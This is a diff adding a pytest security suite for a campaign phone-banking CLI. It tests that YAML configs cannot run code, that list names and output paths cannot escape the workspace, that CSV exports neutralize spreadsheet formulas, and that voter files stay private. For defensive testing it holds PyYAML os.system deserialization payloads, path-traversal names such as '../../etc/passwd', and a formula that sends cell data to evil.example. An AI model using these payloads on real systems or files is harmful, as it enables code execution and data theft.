@@ -1,0 +1,339 @@
+"""Security suite: scripts.yaml cannot run code, names and paths cannot leave the workspace, exports are
+safe in spreadsheets, and voter data and the roster are private even under a permissive umask.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import shutil
+import stat
+import subprocess
+import sys
+from collections import Counter
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from phonebank.cli import cli
+from phonebank.dnc import append_dnc
+from phonebank.exports.output import write_private
+from phonebank.exports.safecsv import TRIGGERS
+from phonebank.importer import run_import
+from phonebank.queue import CallQueue
+from phonebank.results import ResultRow
+from phonebank.roster import add_volunteer, config_dir, remember_email
+from phonebank.script import load_script
+from phonebank.workspace import Workspace
+
+import figures
+from callkit import ANA, Clock, la, make_workspace
+
+REPO = Path(__file__).resolve().parent.parent
+PHONEBANK = str(Path(sys.executable).with_name("phonebank"))
+SAMPLE = (REPO / "scripts.yaml").read_text(encoding="utf-8")
+NOW = "2017-03-20T18:00:00-07:00"
+CHECKED: Counter[str] = Counter()
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _figures():
+    yield
+    figures.record("security", ", ".join(f"{n} {what}" for what, n in CHECKED.items()))
+
+
+def run(ws: Path, *args: str, input: str | None = None, env: dict[str, str] | None = None) -> Result:
+    return CliRunner().invoke(cli, ["--workspace", str(ws), *args], input=input, env=env, catch_exceptions=False)
+
+
+def one_line_error(result: Result, code: int = 2) -> str:
+    assert result.exit_code == code, (result.exit_code, result.output[-400:])
+    assert "Traceback" not in result.output
+    lines = result.stderr.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("Error: "), lines
+    return lines[0][len("Error: "):]
+
+
+def tree(root: Path) -> dict[str, bytes | None]:
+    """Every path under ``root`` with its bytes (None for a folder)."""
+    return {str(p.relative_to(root)): (p.read_bytes() if p.is_file() else None) for p in sorted(root.rglob("*"))}
+
+
+def edit(old: str, new: str) -> str:
+    assert SAMPLE.count(old) == 1, old
+    return SAMPLE.replace(old, new)
+
+
+# -- scripts.yaml cannot execute code -------------------------------------------------------------
+
+def payloads(marker: Path) -> dict[str, tuple[str, str]]:
+    """(script text, the tag named in the error) for every way we know to ask PyYAML for Python objects."""
+    touch = f"['touch {marker}']"
+    question = "      en: Knew about the April 4 election before the call?"
+    apply = "!!python/object/apply:os.system"
+    return {
+        "object/apply": (edit("version: 1", f"version: {apply} {touch}"), apply),
+        "object/new": (edit("version: 1", f"version: !!python/object/new:os.system {touch}"),
+                       "!!python/object/new:os.system"),
+        "name": (edit("version: 1", "version: !!python/name:os.system"), "!!python/name:os.system"),
+        "module": (edit("version: 1", "version: !!python/module:os"), "!!python/module:os"),
+        "object": (edit("version: 1", "version: !!python/object:os.PathLike {}"), "!!python/object:os.PathLike"),
+        "tuple": (edit("languages: [en, es]", "languages: !!python/tuple [en, es]"), "!!python/tuple"),
+        "apply inside a question text": (edit(question, f"      en: {apply} {touch}"), apply),
+        "apply as a mapping key": (edit("version: 1", f"? {apply} {touch}\n: 1\nversion: 1"), apply),
+        "apply under an unused anchor": (edit("version: 1", f"version: 1\nx: &p {apply} {touch}"), apply),
+        "verbatim tag": (edit("version: 1", f"version: !<tag:yaml.org,2002:python/object/apply:os.system> "
+                                            f"{touch}"), apply),
+        "%TAG shorthand": ("%TAG !p! tag:yaml.org,2002:python/\n---\n"
+                           + edit("version: 1", f"version: !p!object/apply:os.system {touch}"), apply),
+        "apply in a flow list": (edit("languages: [en, es]", f"languages: [en, {apply} {touch}]"), apply),
+    }
+
+
+@pytest.mark.parametrize("case", list(payloads(Path("/x"))))
+def test_python_tags_never_run(tmp_path: Path, case: str) -> None:
+    marker = tmp_path / "PWNED"
+    ws = make_workspace(tmp_path / "ws")
+    text, tag = payloads(marker)[case]
+    (ws.root / "scripts.yaml").write_text(text, encoding="utf-8")
+    before = tree(ws.root)
+    for args in (["check"], ["script", "preview"], ["call", "--email", "ana@example.org", "--list", "test"],
+                 ["export", "results"], ["report"]):
+        message = one_line_error(run(ws.root, *args))
+        assert f"tag {tag} is not allowed — scripts.yaml holds plain text and numbers only; remove the tag" in message
+        assert not marker.exists(), f"{case}: scripts.yaml ran a command"
+    assert tree(ws.root) == before
+    CHECKED["code-execution payloads rejected"] += 1
+
+
+@pytest.mark.parametrize(("old", "new", "fragment"), [
+    ("  name: Arturo Carmona for Congress", "  name: !!binary QXJ0dXJv", "campaign.name: expected text, got bytes"),
+    ("      en: Knew about the April 4 election before the call?", "      en: !!binary S25ldw==",
+     "questions[1].text: expected text, got bytes"),
+    ("  name: Arturo Carmona for Congress", "  name: !!binary '@@@ not base64'", "failed to decode base64 data"),
+    ('branches: {"yes": berniecrat, "no": organizer, not_sure: organizer}', 'branches: !!set {"yes", "no"}',
+     "tag !!set is not allowed — write a plain list like [en, es] or a plain mapping"),
+    ("    text:\n      en: Knew about", "    text: !!set {en}\n    text_was:\n      en: Knew about",
+     "tag !!set is not allowed — write a plain list like [en, es] or a plain mapping"),
+], ids=["binary name", "binary question text", "binary not base64", "set as branches", "set as a text"])
+def test_binary_and_set_values_are_rejected(tmp_path: Path, old: str, new: str, fragment: str) -> None:
+    ws = make_workspace(tmp_path / "ws")
+    (ws.root / "scripts.yaml").write_text(edit(old, new), encoding="utf-8")
+    assert fragment in one_line_error(run(ws.root, "check"))
+    CHECKED["code-execution payloads rejected"] += 1
+
+
+def test_a_set_of_languages_is_rejected(tmp_path: Path) -> None:
+    ws = make_workspace(tmp_path / "ws")
+    (ws.root / "scripts.yaml").write_text(edit("languages: [en, es]", "languages: !!set {en, es}"), encoding="utf-8")
+    one_line_error(run(ws.root, "check"))
+
+
+# -- names and paths cannot escape the workspace --------------------------------------------------
+
+BAD_NAMES = ["../../etc/passwd", "/etc/passwd", "a/b", "..", ".", "a\x00b", "x" * 300, ".hidden", "../escaped",
+             "~", "lists/../t", "a\\b", " ", "t\n", "t\r", "-t"]
+
+
+@pytest.fixture(scope="module")
+def called(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A workspace with one list ('test') and a saved call, inside a folder with nothing else."""
+    outer = tmp_path_factory.mktemp("outer")
+    ws = make_workspace(outer / "ws")
+    q = CallQueue(ws, load_script(ws.script_path), "test", Clock(la(2017, 3, 20, 18, 0)))
+    offer = q.next_voter(ANA.email)
+    q.record(ResultRow(recorded_at=NOW, volunteer=ANA.email, list="test", voter_id=offer.voter_id,
+                       phone=offer.phones[0], code="supporter"))
+    q.close()
+    return ws.root
+
+
+def commands_with_list(src: Path) -> dict[str, list[str]]:
+    return {
+        "import": ["import", str(src), "--list"],
+        "call": ["call", "--email", "ana@example.org", "--plain", "--list"],
+        "report": ["report", "--list"],
+        "export": ["export", "results", "--list"],
+    }
+
+
+@pytest.mark.parametrize("command", ["import", "call", "report", "export"])
+def test_list_names_cannot_escape_the_workspace(called: Path, tmp_path: Path, command: str) -> None:
+    src = tmp_path / "voters.csv"
+    src.write_bytes(b"VANID,FirstName,LastName,Cell Phone\n1,Ana,Reyes,2135550101\n")
+    outer = called.parent
+    before = tree(outer)
+    env = {"PHONEBANK_HOME": str(tmp_path / "home"), "PHONEBANK_NOW": NOW}
+    for name in BAD_NAMES:
+        result = run(called, *commands_with_list(src)[command], name, env=env, input="q\n")
+        message = one_line_error(result)
+        shown = repr(name) if name else "''"
+        assert message.startswith(f"invalid list name {shown} — use letters, digits, '.', '_' or '-'"), message
+        assert "\n" not in message
+        CHECKED["escaping list names refused"] += 1
+    assert tree(outer) == before, "a refused name changed files"
+    assert not Path("/etc/passwd.csv").exists() and not (outer / "escaped.csv").exists()
+
+
+@pytest.mark.parametrize(("option", "command"), [("--output", ["export", "results"]), ("--html", ["report"])])
+def test_output_paths_with_a_nul_byte_or_onto_workspace_data_are_refused(called: Path, tmp_path: Path,
+                                                                         option: str, command: list[str]) -> None:
+    before = tree(called.parent)
+    cases = {
+        f"{tmp_path}/out\x00.csv": f"{option} contains a NUL byte — give a plain file name",
+        str(called / "lists" / "test.csv"): "would overwrite the workspace's own data (lists/test.csv)",
+        str(called / "scripts.yaml"): "would overwrite the workspace's own data (scripts.yaml)",
+        str(called / "volunteers.csv"): "would overwrite the workspace's own data (volunteers.csv)",
+        str(called / ".phonebank" / "test.sqlite"): "would overwrite the workspace's own data (.phonebank",
+        str(called / "results" / "test" / "x.csv"): "would overwrite the workspace's own data (results",
+        str(called / "lists" / ".." / "do-not-call.csv"): "would overwrite the workspace's own data (do-not-call.csv)",
+        str(tmp_path / "no-such-folder" / "out.csv"): "does not exist — create it first",
+        str(tmp_path): "is a folder",
+    }
+    for path, fragment in cases.items():
+        message = one_line_error(run(called, *command, option, path))
+        assert fragment in message, message
+        CHECKED["unsafe output paths refused"] += 1
+    assert tree(called.parent) == before
+
+
+# -- exports neutralize spreadsheet formulas, end to end ------------------------------------------
+
+def test_export_neutralizes_formulas_end_to_end(tmp_path: Path) -> None:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    shutil.copyfile(REPO / "scripts.yaml", ws / "scripts.yaml")
+    evil_name = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+    src = tmp_path / "voters.csv"
+    with open(src, "w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["VANID", "FirstName", "LastName", "Cell Phone", "City"])
+        w.writerow(["101", evil_name, "+SUM(1,2)", "2135550101", "-2+3"])
+        w.writerow(["102", "Bo", "Kim", "2135550102", "@cmd"])
+    assert run(ws, "import", str(src), "--list", "t").exit_code == 0
+    env = {"PHONEBANK_HOME": str(tmp_path / "home"), "PHONEBANK_NOW": NOW}
+    register = ["y", "Ana", "Reyes", "90033"]
+    voter_1 = ["s", "1", "1", "1", "@SUM(A1)", "s"]  # script, yes, yes, supporter, the note, save
+    voter_2 = ["s", "1", "1", "1", "=1+1\t", "s"]
+    result = run(ws, "call", "--email", "ana@example.org", "--plain", "--list", "t", env=env,
+                 input="\n".join([*register, *voter_1, *voter_2, "q"]) + "\n")
+    assert result.exit_code == 0, result.output[-800:]
+    out = tmp_path / "results.csv"
+    exported = run(ws, "export", "results", "--list", "t", "--output", str(out))
+    assert exported.exit_code == 0, exported.output
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert len(rows) == 2
+    by_id = {r["voter_id"]: r for r in rows}
+    assert by_id["101"]["first_name"] == "'" + evil_name
+    assert by_id["101"]["last_name"] == "'+SUM(1,2)"
+    assert by_id["101"]["note"] == "'@SUM(A1)"
+    assert by_id["102"]["note"].startswith("'=1+1")
+    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
+    assert not [c for c in cells if c[:1] in TRIGGERS], "a cell a spreadsheet would run"
+    screen = run(ws, "export", "supporters", "--list", "t").stdout  # the same on the screen
+    assert "'=HYPERLINK(" in screen and '"=' not in screen
+    CHECKED["formula cells neutralized end to end"] += len([c for c in cells if c.startswith("'")])
+
+
+# -- voter data and the roster are private, whatever the umask ------------------------------------
+
+def private(path: Path) -> bool:
+    """No access for group and others. An empty lock file (.phonebank/LIST.lock) holds no data and
+    sits in the private .phonebank/ folder: it does not count."""
+    if path.suffix == ".lock" and path.stat().st_size == 0 and private(path.parent):
+        return True
+    return stat.S_IMODE(path.stat().st_mode) & 0o077 == 0
+
+
+@pytest.fixture
+def umask_022():
+    old = os.umask(0o022)
+    try:
+        yield
+    finally:
+        os.umask(old)
+
+
+def test_library_writes_are_private_under_umask_022(tmp_path: Path, umask_022: None) -> None:
+    root = tmp_path / "ws"
+    root.mkdir()
+    shutil.copyfile(REPO / "scripts.yaml", root / "scripts.yaml")
+    ws = Workspace(root)
+    src = tmp_path / "voters.csv"
+    src.write_bytes(b"VANID,FirstName,LastName,Cell Phone\n1,Ana,Reyes,2135550101\n2,Bo,Kim,\n3,Cy,Lu,2135550103\n")
+    run_import(ws, src, "t")  # lists/ created by the import
+    add_volunteer(ws.roster_path, ANA)
+    append_dnc(ws.dnc_path, [("+12135550199", NOW, "call", "refused")])
+    q = CallQueue(ws, load_script(ws.script_path), "t", Clock(la(2017, 3, 20, 18, 0)))
+    offer = q.next_voter(ANA.email)
+    q.record(ResultRow(recorded_at=NOW, volunteer=ANA.email, list="t", voter_id=offer.voter_id,
+                       phone=offer.phones[0], code="supporter"))
+    remember_email(root, ANA.email)
+    export = tmp_path / "exports" / "supporters.csv"
+    export.parent.mkdir()
+    write_private(export, "voter_id\r\n1\r\n")
+    expected = [ws.list_path("t"), ws.rejects_path("t"), ws.roster_path, ws.dnc_path, *ws.results_files("t"),
+                q.db_path, export, config_dir() / "logins.json"]
+    expected += sorted(q.db_path.parent.glob("t.sqlite-*"))  # the index's -wal and -shm
+    assert len(expected) >= 10, expected
+    written = [p for p in root.rglob("*") if p.name != "scripts.yaml"]
+    assert set(expected) - {export, config_dir() / "logins.json"} <= set(written)
+    leaky = [str(p) for p in [*expected, *written] if not private(p)]
+    q.close()
+    assert leaky == [], f"readable by other users: {leaky}"
+    CHECKED["private files and folders (library, umask 022)"] += len(set(expected) | set(written))
+
+
+def test_cli_writes_are_private_under_umask_022(tmp_path: Path) -> None:
+    ws = tmp_path / "ws"
+    ws.mkdir(mode=0o755)
+    shutil.copyfile(REPO / "scripts.yaml", ws / "scripts.yaml")
+    src = tmp_path / "voters.csv"
+    src.write_bytes(b"VANID,FirstName,LastName,Cell Phone\n1,Ana,Reyes,2135550101\n2,Bo,Kim,\n3,Cy,Lu,2135550103\n")
+    dnc_src = tmp_path / "dnc.txt"
+    dnc_src.write_text("(213) 555-0199\n")
+    env = {**os.environ, "PHONEBANK_HOME": str(tmp_path / "home"), "PHONEBANK_NOW": NOW}
+
+    def phonebank(*args: str, input: str = "") -> None:
+        proc = subprocess.run([PHONEBANK, "--workspace", str(ws), *args], input=input, capture_output=True,
+                              text=True, env=env, umask=0o022, timeout=60)
+        assert proc.returncode == 0, (args, proc.stderr)
+
+    phonebank("import", str(src), "--list", "t")
+    phonebank("dnc", "add", str(dnc_src))
+    phonebank("call", "--email", "ana@example.org", "--plain",
+              input="y\nAna\nReyes\n90033\ns\n1\n1\n1\nnote\ns\ni\nf\n\ns\nq\n")  # supporter, refused
+    phonebank("export", "results", "--output", str(tmp_path / "results.csv"))
+    phonebank("report", "--html", str(tmp_path / "report.html"))
+    written = [p for p in ws.rglob("*") if p.name != "scripts.yaml"]
+    names = {p.relative_to(ws).as_posix() for p in written}
+    for expected in ("lists/t.csv", "lists/t.rejects.csv", "volunteers.csv", "do-not-call.csv",
+                     "results/t/ana@example.org.csv", ".phonebank/t.sqlite"):
+        assert expected in names, sorted(names)
+    written += [tmp_path / "results.csv", tmp_path / "report.html", *(tmp_path / "home").rglob("*")]
+    leaky = [str(p) for p in written if not private(p)]
+    assert leaky == [], f"readable by other users: {leaky}"
+    CHECKED["private files and folders (CLI, umask 022)"] += len(written)
+
+
+def test_report_cache_and_torn_rows_are_private(called: Path, tmp_path: Path, umask_022: None) -> None:
+    """Files written later in a workspace's life: the torn-row side file and whatever `report` caches."""
+    called = Path(shutil.copytree(called, tmp_path / "ws"))
+    ws = Workspace(called)
+    before = set(called.rglob("*"))
+    path = ws.results_files("test")[0]
+    with open(path, "ab") as fh:
+        fh.write(b"deadbeef,2017-03-20T18:00:00-07:00,ana@example.org,te")  # a torn last row
+    q = CallQueue(ws, load_script(ws.script_path), "test", Clock(la(2017, 3, 20, 18, 5)))
+    offer = q.next_voter(ANA.email)
+    q.record(ResultRow(recorded_at=NOW, volunteer=ANA.email, list="test", voter_id=offer.voter_id,
+                       phone=offer.phones[0], code="not_home"))
+    q.close()
+    assert run(called, "report", "--list", "test").exit_code == 0
+    new = [p for p in called.rglob("*") if p not in before]
+    assert any(p.name.endswith(".torn") for p in new)
+    leaky = [str(p) for p in new if not private(p)]
+    assert leaky == [], f"readable by other users: {leaky}"
+    CHECKED["private files and folders (library, umask 022)"] += len(new)
